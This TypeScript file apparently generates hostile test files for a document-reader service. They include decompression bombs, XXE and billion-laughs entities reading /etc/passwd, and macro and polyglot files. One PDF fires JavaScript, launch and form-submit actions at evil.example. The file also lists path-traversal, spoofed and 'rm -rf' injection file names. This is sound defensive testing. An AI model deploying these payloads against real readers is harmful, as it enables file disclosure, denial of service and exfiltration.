import { randomBytes } from 'node:crypto';
import { pdfOf } from '../../../infra/document-writing/pdf.ts';
import { partOf, repeatedDeflate, repeatedPart, type ZipPart, zipOfParts } from './raw-zip.ts';

export type HostileFile = { readonly what: string; readonly name: string; readonly bytes: Uint8Array };

const megabyte = 1024 * 1024;
const schemas = 'http://schemas.openxmlformats.org';
const word = `xmlns:w="${schemas}/wordprocessingml/2006/main"`;
const sheets = `xmlns="${schemas}/spreadsheetml/2006/main" xmlns:r="${schemas}/officeDocument/2006/relationships"`;
const wordType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';

/** Files that crash other readers, or try to break out of them. Each file is built when it is needed, because some are large. */
export function* hostileFiles(): Generator<HostileFile> {
  yield* hostileWordFiles();
  yield* hostileWorkbooks();
  yield* hostilePdfs();
  yield* mixedFiles();
}

function* hostileWordFiles(): Generator<HostileFile> {
  const zeros = Buffer.alloc(megabyte, 'a');
  const bomb = (times: number) =>
    docxWith(repeatedPart(documentPart, { head: openBody, block: zeros, times, tail: closeBody }));
  yield { what: 'a docx that inflates to 300 MB', name: 'bomb.docx', bytes: bomb(300) };
  yield { what: 'a docx that inflates to 1 GB', name: 'larger-bomb.docx', bytes: bomb(1_024) };
  const paragraphs = Buffer.from('<w:p/>'.repeat(100_000));
  const repeated = { head: openBody, block: paragraphs, times: 70, tail: closeBody };
  yield {
    what: 'a docx of 7 million paragraphs',
    name: 'paragraphs.docx',
    bytes: docxWith(repeatedPart(documentPart, repeated)),
  };
  const filling = `<!--${randomBytes(300_000).toString('hex')}-->`;
  yield {
    what: 'a docx of 7 million paragraphs with an ordinary ratio',
    name: 'filled.docx',
    bytes: docxWith(repeatedPart(documentPart, { ...repeated, head: `${openBody}${filling}` })),
  };
  const entities = (declared: string, used: string) =>
    docxWith(
      partOf(
        documentPart,
        `<!DOCTYPE w:document [${declared}]>${openBody.slice(openBody.indexOf('<w:'))}<w:p><w:r><w:t>${used}</w:t></w:r></w:p>${closeBody}`,
      ),
    );
  yield {
    what: 'a docx with an external entity',
    name: 'xxe.docx',
    bytes: entities('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'),
  };
  const laughs = Array.from(
    { length: 10 },
    (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
  );
  yield {
    what: 'a docx of a billion laughs',
    name: 'laughs.docx',
    bytes: entities(`<!ENTITY l0 "lol">${laughs.join('')}`, '&l10;'),
  };
  const hello = partOf(documentPart, `${openBody}<w:p><w:r><w:t>Macros</w:t></w:r></w:p>${closeBody}`);
  const macros = zipOfParts([
    ...wordParts(macroType),
    hello,
    partOf('word/vbaProject.bin', 'Sub AutoOpen()'),
  ]);
  yield { what: 'a docm named docx', name: 'macros.docx', bytes: macros };
  yield { what: 'a docm', name: 'macros.docm', bytes: macros };
  yield { what: 'a docx with external links', name: 'links.docx', bytes: linkedDocx() };
}

export const documentPart = 'word/document.xml';
export const openBody = `<?xml version="1.0"?><w:document ${word}><w:body>`;
export const closeBody = '</w:body></w:document>';

export function docxWith(part: ZipPart, ...more: readonly ZipPart[]): Buffer {
  return zipOfParts([...wordParts(wordType), part, ...more]);
}

export const relationshipsOf = (relationships: string) =>
  `<Relationships xmlns="${schemas}/package/2006/relationships">${relationships}</Relationships>`;
export const relationshipTo = (type: string, target: string, mode = '') =>
  `<Relationship Id="r${type}" Type="${schemas}/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/>`;
export const contentTypes = (overrides: string) =>
  partOf(
    '[Content_Types].xml',
    `<Types xmlns="${schemas}/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>${overrides}</Types>`,
  );

const wordParts = (type: string): ZipPart[] => [
  contentTypes(`<Override PartName="/${documentPart}" ContentType="${type}"/>`),
  partOf('_rels/.rels', relationshipsOf(relationshipTo('officeDocument', documentPart))),
];

function linkedDocx(): Buffer {
  const external = ' TargetMode="External"';
  const targets = [
    relationshipTo('attachedTemplate', 'http://127.0.0.1:1/template.dotm', external),
    relationshipTo('image', 'file:///etc/passwd', external),
    relationshipTo('footnotes', '../../../../etc/passwd'),
    relationshipTo('styles', 'file:///etc/passwd'),
  ];
  return docxWith(
    partOf(documentPart, `${openBody}<w:p><w:r><w:t>A link outside.</w:t></w:r></w:p>${closeBody}`),
    partOf('word/_rels/document.xml.rels', relationshipsOf(targets.join(''))),
  );
}

function* hostileWorkbooks(): Generator<HostileFile> {
  const rows = Array.from(
    { length: 1_040_000 },
    (_, row) => `<row r="${row + 1}"><c r="A${row + 1}"><v>${row * 7_919}</v></c></row>`,
  );
  yield {
    what: 'an xlsx of 1.04 million rows',
    name: 'rows.xlsx',
    bytes: workbookWith([sheetOf(`<sheetData>${rows.join('')}</sheetData>`)]),
  };
  yield {
    what: 'an xlsx that claims every cell there is',
    name: 'claims.xlsx',
    bytes: workbookWith([
      sheetOf(
        '<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
      ),
    ]),
  };
  const small = sheetOf('<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>');
  const many = Array.from({ length: 10_000 }, () => small);
  yield { what: 'a book of 10,000 sheets', name: 'sheets.xlsx', bytes: workbookWith(many) };
  yield {
    what: 'a book that shows one part as 10,000 sheets',
    name: 'one-part.xlsx',
    bytes: workbookWith([small], 10_000),
  };
}

export const sheetOf = (content: string) => `<worksheet ${sheets}>${content}</worksheet>`;

export function workbookWith(
  parts: readonly string[],
  shown = parts.length,
  more: readonly ZipPart[] = [],
  types = '',
): Buffer {
  const numbers = Array.from({ length: shown }, (_, index) => index + 1);
  const partFor = (number: number) => `worksheets/sheet${Math.min(number, parts.length)}.xml`;
  const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
  const named = numbers.map((id) => `<sheet name="S${id}" sheetId="${id}" r:id="r${id}"/>`).join('');
  const related = numbers.map(
    (id) =>
      `<Relationship Id="r${id}" Type="${schemas}/officeDocument/2006/relationships/worksheet" Target="${partFor(id)}"/>`,
  );
  return zipOfParts([
    contentTypes(
      `<Override PartName="/xl/workbook.xml" ContentType="${type}.sheet.main+xml"/>${parts.map((_, index) => `<Override PartName="/xl/worksheets/sheet${index + 1}.xml" ContentType="${type}.worksheet+xml"/>`).join('')}${types}`,
    ),
    partOf('_rels/.rels', relationshipsOf(relationshipTo('officeDocument', 'xl/workbook.xml'))),
    partOf('xl/workbook.xml', `<workbook ${sheets}><sheets>${named}</sheets></workbook>`),
    partOf('xl/_rels/workbook.xml.rels', relationshipsOf(related.join(''))),
    ...parts.map((content, index) => partOf(`xl/worksheets/sheet${index + 1}.xml`, content)),
    ...more,
  ]);
}

function* hostilePdfs(): Generator<HostileFile> {
  const head = Buffer.from([0x78, 0x9c]);
  const drawn = Buffer.from('0 0 m 9 9 l S\n'.repeat(75_000));
  const deflated = (times: number) =>
    Buffer.concat([head, repeatedDeflate('', drawn, times, 'BT ET'), Buffer.alloc(4)]);
  const pdf = (content: Buffer, filter: string) => pdfOf([{ texts: [], content }], { filter });
  yield {
    what: 'a pdf with a stream of 300 MB',
    name: 'stream.pdf',
    bytes: pdf(deflated(300), '/FlateDecode'),
  };
  yield {
    what: 'a pdf with a stream deflated twice',
    name: 'twice.pdf',
    bytes: pdf(
      Buffer.concat([head, repeatedDeflate('', deflated(300), 1, ''), Buffer.alloc(4)]),
      '[/FlateDecode /FlateDecode]',
    ),
  };
  yield {
    what: 'a pdf with 40 streams just below the limit of one',
    name: 'streams.pdf',
    bytes: pdfOf(
      Array.from({ length: 40 }, () => ({ texts: [], content: deflated(45) })),
      { filter: '/FlateDecode' },
    ),
  };
}

/**
 * A two-page PDF that tries to run scripts, to start programs, and to reach `https://evil.example` in every way that a viewer
 * might follow.
 */
export function actingPdf(): Uint8Array {
  const evil = 'https://evil.example';
  const script = `app.alert('pdf'); this.getURL('${evil}/script'); this.submitForm('${evil}/form');`;
  const actions = [
    `<< /S /JavaScript /JS (${script.replaceAll('(', '\\(').replaceAll(')', '\\)')}) >>`,
    `<< /S /URI /URI (${evil}/uri) >>`,
    '<< /S /URI /URI (javascript:alert\\(1\\)) >>',
    '<< /S /Launch /F (calc.exe) >>',
    `<< /S /GoToR /F << /FS /URL /F (${evil}/other.pdf) >> /D [0 /Fit] /NewWindow true >>`,
    `<< /S /SubmitForm /F << /FS /URL /F (${evil}/submit) >> /Flags 4 >>`,
    `<< /S /ImportData /F << /FS /URL /F (${evil}/data) >> >>`,
    '<< /S /Named /N /Print >>',
  ];
  const [opening = ''] = actions;
  const events = actions.map(
    (action, index) => `/${['O', 'C', 'WC', 'WS', 'DS', 'WP', 'DP', 'X'][index]} ${action}`,
  );
  const links = actions.map(
    (action, index) =>
      `<< /Type /Annot /Subtype /Link /Rect [50 ${700 - index * 60} 545 ${750 - index * 60}] /Border [0 0 1] /A ${action} /AA << /PO ${opening} /PV ${opening} /E ${opening} >> >>`,
  );
  const button = `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [50 100 545 200] /MK << /CA (Press) >> /A ${opening} >>`;
  const texts = [{ text: 'This file acts', x: 60, y: 780, size: 24 }];
  return pdfOf(
    [
      { texts, annotations: [...links, button] },
      { texts, annotations: links },
    ],
    {
      catalog: `/OpenAction ${opening} /AA << ${events.join(' ')} >> /URI << /Base (${evil}/) >> /Names << /JavaScript << /Names [(a) ${opening}] >> >> /AcroForm << /NeedAppearances true /Fields [] >> `,
    },
  );
}

function* mixedFiles(): Generator<HostileFile> {
  const pdf = pdfOf([{ texts: [{ text: 'Both a pdf and an archive', x: 50, y: 700 }] }]);
  const docx = docxWith(partOf(documentPart, `${openBody}<w:p><w:r><w:t>Both</w:t></w:r></w:p>${closeBody}`));
  const both = Buffer.concat([pdf, docx]);
  const reversed = Buffer.concat([docx, pdf]);
  yield { what: 'a pdf that ends as a zip', name: 'both.pdf', bytes: both };
  yield { what: 'a pdf that ends as a zip, named docx', name: 'both.docx', bytes: both };
  yield { what: 'a zip that ends as a pdf', name: 'reversed.docx', bytes: reversed };
  yield { what: 'a zip that ends as a pdf, named pdf', name: 'reversed.pdf', bytes: reversed };
}

/** Hostile file names for ordinary texts. */
export const hostileNames = (): string[] => [
  `${'n'.repeat(4_000)}.txt`,
  '../../etc/passwd.txt',
  '..\\..\\windows\\system.txt',
  'report\u202Etxt.exe.txt',
  'التقرير السنوي.txt',
  'a\u0000b\r\nSet-Cookie: x.txt',
  '"; rm -rf ~; ".txt',
  '.txt',
];
